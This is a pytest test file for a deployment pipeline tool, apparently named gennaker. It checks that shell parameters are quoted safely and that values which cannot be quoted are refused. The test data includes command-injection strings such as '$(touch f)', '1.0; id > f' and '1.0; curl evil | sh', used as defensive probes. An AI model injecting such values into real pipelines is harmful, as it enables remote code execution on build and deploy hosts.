"""Parameters never become shell syntax: a value interpolated into a string ``command`` (run by
``/bin/sh -c``) is quoted for where it stands; a list command is exec'd with the value as is; where a
value cannot be quoted safely the stage fails and says to use ``env``."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gennaker.spec.expressions import ExpressionError
from gennaker.spec.shell import interpolate
from gennaker.stages import default_registry
from tests.core.test_cli import gk

HOSTILE = ["1.0; id > f", "$(touch f)", "a'b\"c\\d`touch f`*", "x\ntouch f"]


def pipeline(path: Path, command: str, env: str = "") -> Path:
    quoted = command.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    text = f"""name: quoting
application: shop
parameters: [{{name: version, default: "1"}}]
stages:
  - id: show
    type: run
    command: "{quoted}"
{env}"""
    file = path / "p.yml"
    file.write_text(text)
    return file


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("printf %s ${trigger.params.version} > out.txt", "{v}"),
        ('printf %s "v=${trigger.params.version}" > out.txt', "v={v}"),
        ("printf %s 'v=${trigger.params.version}' > out.txt", "v={v}"),
    ],
    ids=["bare", "double-quoted", "single-quoted"],
)
def test_cli_parameter_is_printed_not_run(tmp_path: Path, value: str, command: str, expected: str) -> None:
    file = pipeline(tmp_path, command)
    r = gk(f"sqlite:///{tmp_path / 'g.db'}", "run", str(file), "--param", f"version={value}", "--wait")
    assert r.returncode == 0, r.stdout + r.stderr
    assert (tmp_path / "out.txt").read_text() == expected.format(v=value)
    assert not (tmp_path / "f").exists()
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("g.db")) == ["out.txt", "p.yml"]


def test_cli_list_command_gets_the_value_as_is(tmp_path: Path) -> None:
    # exec'd, no shell: the value arrives as one argument, with nothing added
    file = tmp_path / "p.yml"
    file.write_text(
        "name: quoting\napplication: shop\nparameters: [{name: version, default: '1'}]\nstages:\n"
        "  - id: show\n    type: run\n"
        """    command: ["/bin/sh", "-c", 'printf %s "$1" > out.txt', "sh", "${trigger.params.version}"]\n"""
    )
    r = gk(f"sqlite:///{tmp_path / 'g.db'}", "run", str(file), "--param", "version=1.0; id > f", "--wait")
    assert r.returncode == 0, r.stdout + r.stderr
    assert (tmp_path / "out.txt").read_text() == "1.0; id > f"
    assert not (tmp_path / "f").exists()


def test_cli_env_passes_a_value_anywhere(tmp_path: Path) -> None:
    file = pipeline(
        tmp_path,
        "cat > out.txt <<EOF\nversion=$VERSION\nEOF",
        env='    env: {VERSION: "${trigger.params.version}"}\n',
    )
    r = gk(f"sqlite:///{tmp_path / 'g.db'}", "run", str(file), "--param", "version=$(touch f)", "--wait")
    assert r.returncode == 0, r.stdout + r.stderr
    assert (tmp_path / "out.txt").read_text() == "version=$(touch f)\n"
    assert not (tmp_path / "f").exists()


def test_cli_value_where_it_cannot_be_quoted_is_refused_before_anything_runs(tmp_path: Path) -> None:
    file = pipeline(tmp_path, "cat > out.txt <<EOF\nversion=${trigger.params.version}\nEOF")
    r = gk(f"sqlite:///{tmp_path / 'g.db'}", "run", str(file), "--param", "version=$(touch f)", "--wait")
    assert r.returncode == 2
    assert f"{file}:7:" in r.stderr and "here-document" in r.stderr and "pass it through env" in r.stderr, r.stderr
    assert "Traceback" not in r.stdout + r.stderr
    assert not (tmp_path / "out.txt").exists() and not (tmp_path / "f").exists()


# ---- every value, every place: what sh prints is exactly the value ------------------------------------
TEMPLATES = {
    "printf %s ${x}": "{v}",
    "printf %s a${x}b": "a{v}b",
    'printf %s "<${x}>"': "<{v}>",
    "printf %s '<${x}>'": "<{v}>",
    'printf %s "$(printf %s ${x})."': "{t}.",  # $(...) drops trailing newlines
    "f() { printf %s ${x}; }; f": "{v}",
    "printf %s `date +%Y` >/dev/null; printf %s $((1+2)) ${x}": "3{v}",
    "# it's a comment\nprintf %s \\\n  ${x}": "{v}",
}
SHELLS = [sh for sh in ("/bin/sh", "/bin/bash") if Path(sh).exists()]
values = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=25)


@settings(max_examples=60, deadline=None)
@given(value=values)
def test_every_value_prints_as_itself(tmp_path_factory: pytest.TempPathFactory, value: str) -> None:
    cwd = tmp_path_factory.mktemp("sh")
    for template, expected in TEMPLATES.items():
        script = interpolate(template.replace("${x}", "${trigger.params.x}"), {"trigger": {"params": {"x": value}}})
        assert isinstance(script, str)
        for sh in SHELLS:  # /bin/sh is dash here, bash on other systems
            out = subprocess.run([sh, "-c", script], cwd=cwd, capture_output=True, timeout=10, check=False)
            assert out.stdout.decode() == expected.format(v=value, t=value.rstrip("\n")), (sh, template, script)
            assert list(cwd.iterdir()) == []


@pytest.mark.parametrize(
    "template",
    [
        "cat <<EOF\n${x}\nEOF",
        "echo `echo ${x}`",
        "echo $((1 + ${x}))",
        "echo \\${x}",
        "echo hi # ${x}",
        "(( n = ${x} ))",
        "echo $'q' ${x}",
    ],
)
def test_values_that_cannot_be_quoted_are_refused(template: str) -> None:
    with pytest.raises(ExpressionError, match="pass it through env"):
        interpolate(template.replace("${x}", "${trigger.params.x}"), {"trigger": {"params": {"x": "$(id)"}}})


def test_a_whole_list_value_stays_a_list() -> None:
    assert interpolate("${trigger.params.x}", {"trigger": {"params": {"x": ["ls", "-l"]}}}) == ["ls", "-l"]
    assert interpolate(" ${trigger.params.x} ", {"trigger": {"params": {"x": "a b"}}}) == " 'a b' "


@pytest.mark.parametrize("stage_type", ["bake", "deploy"])
def test_user_data_script_is_quoted_like_a_command(stage_type: str) -> None:
    # user data that is a shell script runs as root on the instance: the same hazard as a command
    stype = default_registry()[stage_type]
    scope = {"trigger": {"params": {"v": "1.0; curl evil | sh"}}}
    script = stype.resolve_config({"user_data": "#!/bin/bash\necho ${trigger.params.v} > /etc/version"}, scope)
    assert script["user_data"] == "#!/bin/bash\necho '1.0; curl evil | sh' > /etc/version"
    # anything else (cloud-config) is text, resolved as before
    config = stype.resolve_config({"user_data": "#cloud-config\nhostname: ${trigger.params.v}"}, scope)
    assert config["user_data"] == "#cloud-config\nhostname: 1.0; curl evil | sh"


def test_validate_reports_a_value_that_cannot_be_quoted_with_its_place(tmp_path: Path) -> None:
    file = pipeline(tmp_path, "cat > out.txt <<EOF\nversion=${trigger.params.version}\nEOF")
    r = gk(f"sqlite:///{tmp_path / 'g.db'}", "validate", str(file))
    assert r.returncode == 2, r.stdout + r.stderr
    out = r.stdout + r.stderr
    assert f"{file}:7:" in out and "here-document" in out and "pass it through env" in out, out
    assert "Traceback" not in out
    # a command whose values can all be quoted is valid
    ok = pipeline(tmp_path, 'echo "v=${trigger.params.version}" ${trigger.params.version}')
    assert gk(f"sqlite:///{tmp_path / 'g.db'}", "validate", str(ok)).returncode == 0
